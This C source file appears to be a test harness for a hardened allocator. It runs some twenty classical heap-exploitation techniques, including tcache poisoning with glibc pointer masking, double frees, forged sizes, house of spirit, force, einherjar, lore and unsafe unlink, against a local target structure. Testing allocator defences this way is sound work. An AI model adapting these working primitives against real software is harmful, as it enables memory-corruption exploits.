// The classical attacks on a heap, one a name. Each writes where a bug would let an attacker write (into a
// block that was freed, or beyond the end of one) and then looks for what an attacker wants: two blocks
// that overlap, a block at an address of the attacker's choice, or a write to one.
//
//   attacks NAME    ends with HELD, or with what was gained; or by a signal, when the allocator or the
//                   kernel stops the program
//
// After how2heap (shellphish) and the papers it cites; what an attack has to know of the allocator (where a
// free list's link lies, how glibc masks it) it is told.
#include "check.h"
#include <fcntl.h>
#include <sys/mman.h>

enum { HELD = 0, OVERLAP = 10, PLACED = 11, WRITTEN = 12 };

// What the attacker is after: memory that is no block, with its own pattern. Looks like a block of 0x40
// bytes with a neighbour, to an allocator that reads sizes in front of blocks.
static struct {
    size_t before[6];
    size_t target[32];
    size_t after[8];
} __attribute__((aligned(64))) prey;
static size_t *pointer; // a pointer of the program's, to be bent

static size_t *target(void) { return prey.target; }

static void lay_prey(void) {
    memset(&prey, 0x5a, sizeof prey);
    prey.target[-1] = 0x41;
    prey.target[7] = 0x41;
}

enum { MANY = 600 };
static char *held[MANY];
static size_t held_size[MANY];
static int count;

static char *keep(size_t size) {
    CHECK(count < MANY);
    char *p = malloc(hide_size(size));
    held[count] = p;
    held_size[count] = size;
    count++;
    return p;
}

// Whether the last of them lies where it must not.
static int look(void) {
    int i = count - 1;
    char *from = (char *)&prey, *to = from + sizeof prey;
    if (i < 0 || held[i] == NULL)
        return HELD;
    if (held[i] < to && held[i] + held_size[i] > from)
        return PLACED;
    for (int j = 0; j < i; j++)
        if (held[j] && held[i] < held[j] + held_size[j] && held[j] < held[i] + held_size[i])
            return OVERLAP;
    return HELD;
}

// Takes more blocks of a size and looks at each at once: what comes after a gain is chaos.
static int judge(size_t size, int more) {
    int gained = look();
    for (int i = 0; !gained && i < more && count < MANY; i++) {
        keep(size);
        gained = look();
    }
    if (gained)
        return gained;
    for (unsigned i = 0; i < sizeof prey.target / sizeof *prey.target; i++)
        if (prey.target[i] != (i == 7 ? 0x41 : 0x5a5a5a5a5a5a5a5aull))
            return WRITTEN;
    return HELD;
}

// ---- free-list poisoning ----

// A freed block's first word, where most allocators keep the link to the next.
static int poison_link(void) {
    size_t *a = malloc(0x38), *b = malloc(0x38), *c = malloc(0x38);
    free(hide(a)), free(hide(b)), free(hide(c));
    ((size_t **)hide(c))[0] = target();
    return judge(0x38, 300);
}

// The same, masked as glibc has it since 2.32.
static int poison_masked_link(void) {
    size_t *a = malloc(0x38), *b = malloc(0x38), *c = malloc(0x38);
    free(hide(a)), free(hide(b)), free(hide(c));
    *(size_t *)hide(c) = (size_t)target() ^ ((size_t)c >> 12);
    return judge(0x38, 300);
}

// Every word of many freed blocks, wherever a link may be.
static int poison_everything(void) {
    enum { N = 200, WORDS = 7 };
    static size_t *block[N];
    for (int i = 0; i < N; i++)
        CHECK((block[i] = malloc(WORDS * 8)) != NULL);
    for (int i = 0; i < N; i++)
        free(hide(block[i]));
    for (int i = 0; i < N; i++)
        for (int j = 0; j < WORDS; j++)
            ((size_t **)hide(block[i]))[j] = target();
    return judge(WORDS * 8, 400);
}

// The same with blocks of pages.
static int poison_large(void) {
    enum { N = 8 };
    static size_t *block[N];
    for (int i = 0; i < N; i++)
        CHECK((block[i] = malloc(50000)) != NULL);
    for (int i = 0; i < N; i += 2)
        free(hide(block[i]));
    for (int i = 0; i < N; i += 2)
        for (int j = 0; j < 6000; j++)
            ((size_t **)hide(block[i]))[j] = target();
    for (int i = 1; i < N; i += 2)
        free(hide(block[i]));
    return judge(50000, 40);
}

// ---- double free ----

static int double_free_at_once(void) {
    char *a = malloc(0x38);
    free(hide(a)), free(hide(a));
    return judge(0x38, 500);
}

// Another free in between.
static int double_free_apart(void) {
    char *a = malloc(0x38), *b = malloc(0x38);
    free(hide(a)), free(hide(b)), free(hide(a));
    return judge(0x38, 500);
}

// So many in between that the first has left the thread's own list.
static int double_free_far_apart(void) {
    enum { N = 100000 };
    static char *block[N];
    for (int i = 0; i < N; i++)
        CHECK((block[i] = malloc(0x38)) != NULL);
    for (int i = 0; i < N; i++)
        free(hide(block[i]));
    free(hide(block[0]));
    // Until both have been handed out, whoever keeps them.
    for (int i = 0; i < N; i++)
        block[i] = malloc(0x38);
    int seen = 0;
    size_t last = 0;
    keep(0x38);
    for (int i = 0; i < N; i++)
        ((size_t *)block[i])[0] = (size_t)block[i];
    // Two holders of one block write different things to it.
    for (int i = 0; i < N; i++) {
        size_t *p = (size_t *)block[i];
        seen += p[1] == 0x1234567;
        p[1] = 0x1234567;
        last ^= p[0];
    }
    (void)last;
    return seen > 0 ? OVERLAP : judge(0x38, 1);
}

// After the mark by which an allocator would know it was wiped, as a write after free can.
static int double_free_wiped(void) {
    size_t *a = malloc(0x38);
    free(hide(a));
    memset(hide(a), 0, 0x38);
    free(hide(a));
    return judge(0x38, 500);
}

static int double_free_large(void) {
    char *a = malloc(100000);
    keep(100000);
    free(hide(a));
    free(hide(a));
    return judge(100000, 500);
}

// By realloc of a freed block.
static int realloc_after_free(void) {
    char *a = malloc(0x38);
    keep(0x38);
    free(hide(a));
    char *b = realloc(hide(a), 0x39);
    held[count] = b, held_size[count++] = 0x39;
    return judge(0x38, 500);
}

// ---- forged sizes, in front of a block ----

// A block becomes longer than it is: freed and taken again it reaches over its neighbour.
static int forge_size(void) {
    // Neighbours in front, whose overflow it is.
    for (int i = 0; i < 4; i++)
        CHECK(malloc(0x38));
    size_t *a = malloc(0x38), *b = malloc(0x38);
    CHECK(a && b);
    held[count] = (char *)b, held_size[count++] = 0x38;
    for (int i = 1; i <= 2; i++) {
        // An overflow of the block in front of `a` reaches its size.
        size_t *size = (size_t *)hide(a) - 1;
        if (*size == 0x41)
            *size = 0x201;
        else
            a[-i] = 0x201;
    }
    free(hide(a));
    return judge(0x1f0, 20);
}

// An overflow of a block by what its neighbour would need to look twice as long, and the neighbour freed.
static int overflow_into_size(void) {
    char *a = malloc(0x48), *b = malloc(0x48), *c = malloc(0x48);
    CHECK(a && b && c);
    held[count] = c, held_size[count++] = 0x48;
    for (char *p = (char *)hide(a) + 0x48; p < a + 0x50; p += 8)
        *(size_t *)p = 0xa1;
    free(hide(b));
    return judge(0x98, 20);
}

// An overflow that never ends, in both directions, of blocks of every kind: all memory that can be reached from
// them without a gap, but for blocks in use. What is not resident holds nothing that could be bent.
static int overflow_into_metadata(void) {
    static const size_t sizes[] = {40, 5000, 50000, 4 << 20, 130 << 20, 140 << 20, 40, 131 << 20, 5000};
    enum { BLOCKS = sizeof sizes / sizeof *sizes, MAPPINGS = 400, PAGE = 4096 };
    static struct { char *from, *to; } mapping[MAPPINGS];
    static char line[512];
    static unsigned char resident[(size_t)2 << 30 >> 12];
    int mappings = 0, file;
    for (int i = 0; i < BLOCKS; i++)
        memset(keep(sizes[i]), 1, 40);
    // Without stdio, which would allocate.
    CHECK((file = open("/proc/self/maps", O_RDONLY)) >= 0);
    for (size_t length = 0; read(file, line + length, 1) == 1 && mappings < MAPPINGS;)
        if (line[length++] == '\n' || length == sizeof line - 1) {
            char *end;
            line[length] = 0, length = 0;
            char *from = (char *)strtoul(line, &end, 16), *to = (char *)strtoul(end + 1, &end, 16);
            // Memory of no file, or the heap of old.
            if (end[1] == 'r' && end[2] == 'w' && (!strchr(line, '/') && !strstr(line, "[stack")))
                mapping[mappings].from = from, mapping[mappings++].to = to;
        }
    close(file);
    for (int i = 0; i < BLOCKS; i++) {
        char *from = held[i], *to = held[i] + held_size[i];
        for (int again = 1; again--;)
            for (int m = 0; m < mappings; m++)
                if (mapping[m].from <= to && mapping[m].to >= from &&
                    (mapping[m].from < from || mapping[m].to > to)) {
                    from = mapping[m].from < from ? mapping[m].from : from;
                    to = mapping[m].to > to ? mapping[m].to : to;
                    again = 1;
                }
        from = (char *)((size_t)from & ~(size_t)(PAGE - 1));
        if ((size_t)(to - from) / PAGE > sizeof resident || mincore(from, (size_t)(to - from), resident) != 0)
            continue;
        for (char *page = from; page < to; page += PAGE)
            for (char *p = page; resident[(page - from) / PAGE] & 1 && p < page + PAGE; p += 8) {
                int used = 0;
                for (int j = 0; j < BLOCKS; j++)
                    used |= p + 8 > held[j] && p < held[j] + held_size[j];
                if (!used)
                    *(size_t **)hide(p) = target();
            }
    }
    for (int i = 0; i < 20; i++) {
        keep(sizes[i % BLOCKS]);
        int gained = look();
        if (gained)
            return gained;
    }
    for (int i = 0; i < count; i++)
        free(hide(held[i])), held[i] = NULL;
    return judge(40, 300);
}

// ---- houses ----

// A block that never was one, with a forged size in front.
static int house_of_spirit(void) {
    free(malloc(0x38));
    free(hide(target()));
    return judge(0x38, 20);
}

// The rest of the heap becomes as long as the address space, and a request as long as the way to the prey.
static int house_of_force(void) {
    char *a = malloc(0x418);
    CHECK(a);
    *(size_t *)((char *)hide(a) + 0x418) = (size_t)-1;
    size_t way = (size_t)target() - (size_t)a - 0x440;
    held[count] = malloc(hide_size(way));
    held_size[count++] = 0;
    return judge(0x100, 4);
}

// One zero byte beyond the end: the neighbour believes that there is a free block in front of it.
static int house_of_einherjar(void) {
    size_t *a = malloc(0x38);
    char *b = malloc(0x28), *c = malloc(0xf8);
    CHECK(a && b && c);
    held[count] = b, held_size[count++] = 0x28;
    size_t *fake = hide(a);
    fake[0] = 0, fake[1] = 0x60;
    fake[2] = fake[3] = (size_t)a;
    // What glibc keeps for itself first.
    char *fill[7];
    for (int i = 0; i < 7; i++)
        fill[i] = malloc(0xf8);
    for (int i = 0; i < 7; i++)
        free(hide(fill[i]));
    size_t *end = (size_t *)((char *)hide(b) + 0x20);
    end[0] = 0x60;
    *(unsigned char *)(end + 1) = 0;
    free(hide(c));
    return judge(0x158, 20);
}

// A link of a sorted list of large blocks: taking the next one writes an address to it.
static int house_of_large_bins(void) {
    size_t *a = malloc(0x428);
    malloc(0x18);
    size_t *b = malloc(0x418);
    malloc(0x18);
    free(hide(a));
    malloc(0x438);
    free(hide(b));
    ((size_t *)hide(a))[3] = (size_t)(target() - 4);
    malloc(0x438);
    return judge(0x428, 4);
}

// A link of the list of small blocks that glibc keeps in order of their age.
static int house_of_lore(void) {
    char *fill[7];
    size_t *a = malloc(0x88);
    for (int i = 0; i < 7; i++)
        fill[i] = malloc(0x88);
    malloc(0x18);
    for (int i = 0; i < 7; i++)
        free(hide(fill[i]));
    free(hide(a));
    malloc(0x1000);
    // Fake members of the list, so that its checks of one link each pass.
    static size_t chain[8][4];
    prey.target[0] = (size_t)(a - 2);
    prey.target[1] = (size_t)chain[0];
    for (int i = 0; i < 7; i++) {
        chain[i][2] = i ? (size_t)chain[i - 1] : (size_t)(target() - 2);
        chain[i][3] = (size_t)chain[i + 1];
    }
    chain[7][2] = (size_t)chain[6];
    ((size_t *)hide(a))[1] = (size_t)(target() - 2);
    for (int i = 0; i < 7; i++)
        malloc(0x88);
    malloc(0x88);
    int gained = judge(0x88, 4);
    // Its own links are no prey.
    return gained == WRITTEN ? HELD : gained;
}

// The one that needs a pointer of the program's to the block: afterwards it points in front of itself.
static int unsafe_unlink(void) {
    size_t *a = malloc(0x420), *b = malloc(0x420);
    CHECK(a && b);
    malloc(0x18);
    pointer = a;
    a[1] = 0x420;
    a[2] = (size_t)(&pointer - 3);
    a[3] = (size_t)(&pointer - 2);
    size_t *header = (size_t *)((char *)hide(a) + 0x420);
    header[0] = 0x420;
    header[1] &= ~(size_t)1;
    free(hide(b));
    return pointer != a ? WRITTEN : judge(0x420, 4);
}

// The first of all, of 2001: two links of a freed block are believed, and each written to the other.
static int unlink_2001(void) {
    size_t *a = malloc(0x420), *b = malloc(0x420);
    CHECK(a && b);
    malloc(0x18);
    free(hide(b));
    ((size_t *)hide(b))[0] = (size_t)(target() - 3);
    ((size_t *)hide(b))[1] = (size_t)(target() + 8);
    free(hide(a));
    return judge(0x840, 4);
}

// ---- a write after free, of everything, at every size ----

static int scribble(void) {
    static char *block[2000];
    for (size_t size = 8; size <= 40000; size += size / 2) {
        int n = size > 4000 ? 20 : 500;
        for (int i = 0; i < n; i++)
            CHECK((block[i] = malloc(hide_size(size))) != NULL);
        for (int i = 0; i < n; i++)
            free(hide(block[i]));
        for (int i = 0; i < n; i++)
            for (size_t j = 0; j + 8 <= size; j += 8)
                *(size_t *)((char *)hide(block[i]) + j) = (size_t)target();
        count = 0;
        int gained = judge(size, n / 2);
        if (gained)
            return gained;
        for (int i = 0; i < count; i++)
            free(held[i]);
    }
    return HELD;
}

static int control(void) {
    char *a = malloc(100);
    free(hide(a));
    return judge(100, 100);
}

int main(int argc, char **argv) {
    CHECK(argc == 2);
    lay_prey();
#define ATTACK(name)                   \
    if (strcmp(argv[1], #name) == 0) { \
        int gained = name();           \
        _exit(gained);                 \
    }
    ATTACK(poison_link)
    ATTACK(poison_masked_link)
    ATTACK(poison_everything)
    ATTACK(poison_large)
    ATTACK(double_free_at_once)
    ATTACK(double_free_apart)
    ATTACK(double_free_far_apart)
    ATTACK(double_free_wiped)
    ATTACK(double_free_large)
    ATTACK(realloc_after_free)
    ATTACK(forge_size)
    ATTACK(overflow_into_size)
    ATTACK(overflow_into_metadata)
    ATTACK(house_of_spirit)
    ATTACK(house_of_force)
    ATTACK(house_of_einherjar)
    ATTACK(house_of_large_bins)
    ATTACK(house_of_lore)
    ATTACK(unsafe_unlink)
    ATTACK(unlink_2001)
    ATTACK(scribble)
    ATTACK(control)
    fprintf(stderr, "no such attack\n");
    return 2;
}
